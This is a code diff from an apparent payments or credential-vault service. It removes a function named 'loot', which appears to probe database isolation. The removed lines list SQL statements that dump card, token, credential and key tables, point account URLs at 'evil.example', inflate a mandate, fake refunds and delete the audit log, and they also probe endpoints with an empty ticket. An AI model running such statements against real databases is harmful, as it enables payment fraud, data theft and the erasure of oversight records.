@@ -8,8 +8,7 @@ import { type CredentialAnswer, type OpenAnswer, toWireContext } from '../../rec
 import { openRecord } from '../../records/open.ts'
 import { makeReplyKey } from '../../records/reply.ts'
 import { grantFor } from './as-gateway.ts'
-import { asOther, borrowedRoles, entered, statements } from './database.ts'
-import { type Door, knock, tell } from './door.ts'
+import { tell } from './door.ts'
 import { asSealed, contextOf, type SealedToken } from './records.ts'
 
 export const instance = (config: EgressConfig): string => thumbprint(config.request_key)
@@ -125,34 +124,4 @@ export async function asCredential(config: EgressConfig, { row }: { row: SealedT
   const reply_key = makeReplyKey().publicKey
   const record = { context: toWireContext(context), kek_id: row.kek_id, wrapped_dek: row.wrapped_dek }
   return (await tell(forKeyd(config), 'POST', '/credential', { record, reply_key })).code ?? 'opened'
-}
-
-export async function loot(config: EgressConfig, { doors }: { doors: Door[] }) {
-  const url = config.database_url
-  const wanted = [
-    'select * from records',
-    'select * from tokens',
-    'select * from cvc',
-    'select * from fingerprints',
-    'select * from credentials',
-    'select * from captures',
-    'select * from hour_keys',
-    'select * from allowances',
-    "update accounts set base_url = 'http://evil.example'",
-    "update records set body = ''",
-    "update mandates set amount_max = 99999999, account = 'acct_mine'",
-    "update charges set state = 'refunded'",
-    'delete from audit',
-  ]
-  const outcomes = await statements(url, wanted)
-  const elsewhere = [asOther(url, 'egress', 'gateway'), asOther(url, 'egress', 'keyd')]
-  const ticketless = { ticket: '', inner: Buffer.alloc(32).toString('base64url'), cvc: false }
-  return {
-    got: wanted.filter((_text, index) => outcomes[index]?.code === null),
-    inside: await entered(config, [...elsewhere, ...borrowedRoles(url)]),
-    told: await knock(config.request_key, doors, [
-      ['/fingerprint', ticketless],
-      ['/captures', {}],
-    ]),
-  }
 }
